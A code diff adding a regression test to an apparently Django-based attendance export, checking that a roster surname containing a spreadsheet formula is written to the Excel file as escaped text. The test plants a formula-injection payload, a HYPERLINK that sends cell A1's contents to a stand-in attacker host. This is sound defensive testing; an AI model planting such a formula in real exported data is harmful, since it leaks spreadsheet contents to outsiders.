@@ -201,3 +201,15 @@ def test_event_without_attendance_exports_empty_tables(client):
     assert rows == [("Всего", None, None, None, None, 0)]
     _heading, people = table(workbook["Участники"])
     assert people == []
+
+
+def test_a_name_from_the_roster_never_runs_as_a_formula(client, world):
+    """HR rosters are typed by people: «=HYPERLINK(…)» as a surname reaches the workbook as text."""
+    hostile = world["o"][3]
+    hostile.last_name = '=HYPERLINK("http://evil.example/?"&A1,"Обнинская3")'
+    hostile.save()
+    client.force_login(make_regional_manager())
+    workbook = read(client.get(f"/events/{world['event'].pk}/attendance.xlsx"))
+    cells = [cell for row in workbook.worksheets[1].iter_rows(values_only=True) for cell in row if cell]
+    assert not any(str(cell).startswith("=") for cell in cells)
+    assert any(str(cell).startswith("'=HYPERLINK") for cell in cells)
